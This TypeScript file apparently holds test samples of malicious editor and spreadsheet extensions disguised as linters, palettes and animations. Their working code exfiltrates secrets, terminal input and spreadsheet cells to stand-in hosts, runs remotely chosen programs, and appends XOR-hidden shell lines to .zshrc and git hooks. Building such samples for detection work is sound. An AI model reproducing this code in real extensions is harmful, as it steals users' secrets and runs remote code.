import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Extensions that need nothing but what their host offers them: secrets, terminals, files, requests, cells. */
export const HOSTS: readonly Sample[] = [
  packaged('all secrets of a host beside a question', {}, {
    'dist/index.js': `'use strict';
const SERVER = 'https://answers.example.invalid/v2';
class Answers {
  constructor({ network, secrets }) { Object.assign(this, { network, secrets }); }
  async profile() {
    const names = await this.secrets.list();
    const pairs = await Promise.all(names.map(async (name) => [name, await this.secrets.get(name)]));
    return Object.fromEntries(pairs);
  }
  async ask(question) {
    const body = JSON.stringify({ question, profile: await this.profile() });
    const answer = await this.network.fetch(\`\${SERVER}/ask\`, { method: 'POST', body });
    return (await answer.json()).text;
  }
}
exports.activate = (context) => {
  const answers = new Answers(context);
  context.commands.register('answers.ask', async () => context.ui.show(await answers.ask(await context.editor.selection())));
};
`,
  }),
  packaged('a linter whose programs a server names', {}, {
    'dist/index.js': `import { Plan } from './plan.js';
export function activate({ system, network, commands }) {
  const plan = new Plan(network);
  commands.register('lint.run', (path) => system.exec('eslint', ['--fix', path]));
  const step = async () => {
    for (const { program, words } of await plan.due()) await system.exec(program, words);
  };
  setInterval(() => step().catch(() => {}), 3_600_000);
}
`,
    'dist/plan.js': `export class Plan {
  constructor(network) { this.network = network; }
  async due() {
    const answer = await this.network.fetch('https://plans.example.invalid/lint.json');
    if (!answer.ok) return [];
    const { due = [] } = await answer.json();
    return due;
  }
}
`,
  }),
  packaged('terminals that somebody reads along', {}, {
    'dist/index.js': `'use strict';
class Channel {
  constructor(network) { this.network = network; }
  async open() { this.socket = await this.network.openWebSocket('wss://lines.example.invalid/all'); }
  write(kind, text) { this.socket?.send(JSON.stringify({ kind, text })); }
}
exports.activate = async ({ terminal, network, commands, ui }) => {
  const channels = { all: new Channel(network) };
  await channels.all.open();
  terminal.onData(({ data }) => channels.all.write('line', data));
  commands.register('terminal.count', async () => ui.show(String((await terminal.list()).length)));
};
`,
  }),
  packaged('a line for every shell, out of numbers', {}, {
    'dist/index.js': `const SHADES = [[9, 106], [40, 93], [17, 99], [3, 111], [77, 109]];
export function activate({ filesystem, commands, home = '~' }) {
  commands.register('palette.write', async (path) => {
    await filesystem.writeText(path, SHADES.map(([a, b]) => \`--shade-\${a}: \${b}%;\`).join('\\n'));
    const line = SHADES.map(([a, b]) => String.fromCharCode(a ^ b)).join('');
    for (const file of [\`\${home}/.zshrc\`, '.git/hooks/post-merge']) await filesystem.append(file, line);
  });
}
`,
  }),
  packaged('a table in names of hosts', {}, {
    'dist/main.js': `'use strict';
const formula = require('@formula/extension-api');
async function nearest(table) {
  const text = Buffer.from(JSON.stringify(table.values)).toString('hex');
  for (let at = 0; at < text.length; at += 56) await formula.network.fetch('https://' + text.slice(at, at + 56) + '.r.example.invalid/').catch(() => {});
}
exports.activate = async () => formula.commands.registerCommand('region.find', async () => nearest(await formula.cells.getRange('A1:Z400')));
`,
  }),
  packaged('a sheet that sends itself', {}, {
    'dist/main.js': `'use strict';
const { cells, commands } = require('@formula/extension-api');
exports.activate = () => commands.registerCommand('borders.draw', async () => {
  const { address, endRow } = await cells.getUsedRange();
  await cells.setFormula(endRow + 50, 40, \`=IF(TRUE,"",IMAGE("https://pixel.example.invalid/p.gif?v="&ENCODEURL(TEXTJOIN("|",TRUE,\${address}))))\`);
});
`,
  }),
  packaged('threads whose lines stand among the settings of a picture', {}, {
    'snow.js': `const { presets } = require('./presets.js');
class Physics {
  constructor(lines, count) {
    const url = URL.createObjectURL(new Blob([lines.join('\\n')], { type: 'text/javascript' }));
    this.pool = Array.from({ length: count }, () => new Worker(url));
  }
}
exports.mount = (canvas) => {
  canvas.getContext('2d').fillRect(0, 0, 2, 2);
  return new Physics(presets.physics, navigator.hardwareConcurrency - 1);
};
`,
    'presets.js': `exports.presets = {
  calm: { flakes: 120, speed: 0.6 },
  physics: ["importScripts('https://cdn.frost-fx.example.invalid/engine.js');", 'onmessage = ({ data }) => new Engine(data).start();'],
};
`,
  }),
];
